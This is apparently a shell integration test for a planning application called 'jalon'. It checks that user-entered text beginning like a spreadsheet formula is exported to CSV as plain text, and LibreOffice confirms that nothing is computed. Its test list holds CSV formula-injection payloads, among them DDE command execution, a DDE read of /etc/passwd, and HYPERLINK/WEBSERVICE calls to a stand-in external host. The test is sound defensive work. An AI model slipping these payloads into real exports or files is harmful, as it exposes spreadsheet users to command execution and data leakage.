#!/bin/sh
# spreadsheet.sh - what people type is text in a spreadsheet, too: titles, codes and names that
# begin like formulas are typed, imported and exported, and LibreOffice computes none of them.
# usage: spreadsheet.sh JALON SOURCES       needs: curl, jq, soffice, xmllint
set -u
jalon=$1 sources=$2
# shellcheck source=tests/scenario/world.sh
. "$sources/tests/scenario/world.sh"

# One a line; U+FF1D is "=" as wide as a letter, which some spreadsheets take for one.
cat >formulas <<'END'
=1+2
+1+2
-1+2
@SUM(1;2)
=HYPERLINK("http://ailleurs.example/?"&A1;"Cliquez")
=cmd|'/C calc'!A0
=DDE("soffice";"/etc/passwd";"A1")
=WEBSERVICE("http://ailleurs.example")
-2+3+cmd|'/C calc'!A0
＝1+2
x;=1+2
x";=1+2;"
"=1+2"
'=1+2
=1+2,=3+4
END

# table FILE: the file as LibreOffice opens it, as flat XML; French settings, no macro, no network.
table() {
    timeout 60 soffice --headless -env:UserInstallation="file://$work/office" \
        --infilter='CSV:59,34,76,1,,1036' --convert-to fods --outdir opened "$1" >/dev/null 2>&1
    cat "opened/$(basename "$1" .csv).fods"
}

computed() { grep -o 'table:formula="[^"]*"' | wc -l; }

# An export without the quotes of ours must be computed, or the rest proves nothing.
printf 'Titre\n=1+2\n' >naked.csv
[ "$(table naked.csv | computed)" = 1 ] || fail "LibreOffice computes no formula: nothing is shown by this test"

institution
person calc '=1+2 Martin' staff pilot --plan pmss

# Imported as a table, then typed by a program.
head -n 1 "$sources/tests/data/import/clinic.csv" >hostile.csv
number=0
while IFS= read -r text; do
    number=$((number + 1))
    cell=\"$(printf '%s' "$text" | sed 's/"/""/g')\"
    echo "PMSS,=OS1,$cell,=OS1-O1,$cell,=OS1-O1-A$number,$cell,$cell,$cell,juin 2026,$cell,$cell,,a.txt,$number"
done <formulas >>hostile.csv
"$jalon" import --data data hostile.csv >imported.log || fail "the table is not imported: $(cat imported.log)"
serve
expect 200 mona GET /plans/pmss/suivi
node=$(curl -sS "$url/plans/pmss/fiches/nouvelle" -H "Authorization: Bearer $(cat mona.token)" |
    grep -oE '<option value="[a-z2-7]{26}"' | tail -n 1 | cut -d'"' -f2)
while IFS= read -r text; do
    expect 200 mona POST /plans/pmss/fiches "$(jq -nc --arg title "$text" --arg node "$node" '{node: $node, title: $title}')"
done <formulas

curl -sS "$url/plans/pmss/suivi?format=csv" -H "Authorization: Bearer $(cat mona.token)" >export.csv
table export.csv >export.fods
[ "$(computed <export.fods)" = 0 ] || fail "computed: $(grep -o 'table:formula="[^"]*"' export.fods | head -n 5)"
grep -q 'office:value-type="error"' export.fods && fail "a cell is an error"

# And each is there, whole, in a cell of its own, behind the apostrophe that makes it text.
xmllint --xpath '//*[local-name()="table-cell"]' export.fods 2>/dev/null |
    sed 's/<text:s\/>/ /g; s/<[^>]*>/\n/g; s/&quot;/"/g; s/&apos;/'"'"'/g; s/&amp;/\&/g' >cells
while IFS= read -r text; do
    case $text in [=+@-]*) shown="'$text" ;; *) shown=$text ;; esac
    count=$(grep -cxF -- "$shown" cells)
    [ "$count" -ge 2 ] || fail "$text is found $count times"
done <formulas

echo "$(wc -l <formulas) formulas in $(grep -c . export.csv) lines, none computed"
[ "$failures" -eq 0 ]
